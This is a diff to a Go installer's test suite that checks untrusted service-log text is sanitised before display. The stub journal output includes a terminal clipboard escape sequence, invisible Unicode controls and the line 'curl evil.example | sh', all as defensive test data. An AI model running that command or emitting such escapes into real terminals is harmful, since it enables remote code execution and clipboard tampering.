@@ -17,6 +17,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"sync/atomic"
 	"syscall"
@@ -98,7 +99,7 @@ systemctl)
 		;;
 	esac
 	;;
-journalctl) echo "gateway: refused, the key is canary-of-the-environment" ;;
+journalctl) printf 'gateway: refused, the key is canary-of-the-environment\n\033]52;c;eA==\007\342\200\256\nhint: curl evil.example | sh\342\200\250hint: again\n' ;;
 esac
 exit 0
 `
@@ -326,8 +327,8 @@ func TestWhatIsNotAsPinnedIsNotInstalled(t *testing.T) {
 		{"not there", missing.URL, sum, "", ": Not Found"},
 		{"no Node in it", serve(t, other), otherSum, "", "holds no bin/node"},
 		{"a path that leads outside", serve(t, outside), outsideSum, "", "outside"},
-		{"npm fails", good, sum, "npm-fails", "npm ci failed, status 1:\nnpm error code EINTEGRITY"},
-		{"the release refuses the configuration", good, sum, "refuses", "OpenClaw 2026.9.6 refuses its configuration (openclawConfig):\nagents: Unrecognized key"},
+		{"npm fails", good, sum, "npm-fails", "npm ci failed, status 1:\n| npm error code EINTEGRITY"},
+		{"the release refuses the configuration", good, sum, "refuses", "OpenClaw 2026.9.6 refuses its configuration (openclawConfig):\n| agents: Unrecognized key"},
 	} {
 		t.Run(test.name, func(t *testing.T) {
 			p := newPlace(t)
@@ -465,6 +466,24 @@ func TestMissingVariables(t *testing.T) {
 				t.Errorf("installed: %v", left)
 			}
 		})
+	}
+}
+
+// TestForeignText: the applier and the installer, which runs without it, map foreign text by the same functions.
+func TestForeignText(t *testing.T) {
+	functions := func(path string) string {
+		text, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := regexp.MustCompile(`(?ms)^INVISIBLE = .*?$|^def (?:printable|marked)\(.*?\n\n`).FindAllString(string(text), -1)
+		if len(found) != 3 {
+			t.Fatalf("%s: %q", path, found)
+		}
+		return strings.Join(found, "")
+	}
+	if a, b := functions("../applier/words.py"), functions(installer); a != b {
+		t.Errorf("the applier has\n%s\nand the installer\n%s", a, b)
 	}
 }
 
@@ -797,7 +816,7 @@ func TestWhatDoesNotGetReadyGivesWay(t *testing.T) {
 	p.write("/fails", "two\n")
 	out, ok := p.run("switch")
 	want := "OpenClaw 2026.9.6: openclaw.service ended with exit status 78, which it gives where its configuration or its state is not for it:\n" +
-		"gateway: refused, the key is [secret]"
+		"| gateway: refused, the key is [secret]\n| ?]52;c;eA==??\n| hint: curl evil.example | sh\n| hint: again"
 	if ok || !strings.HasSuffix(out, want) {
 		t.Errorf("got %v\n%s\nwant\n%s", ok, out, want)
 	}
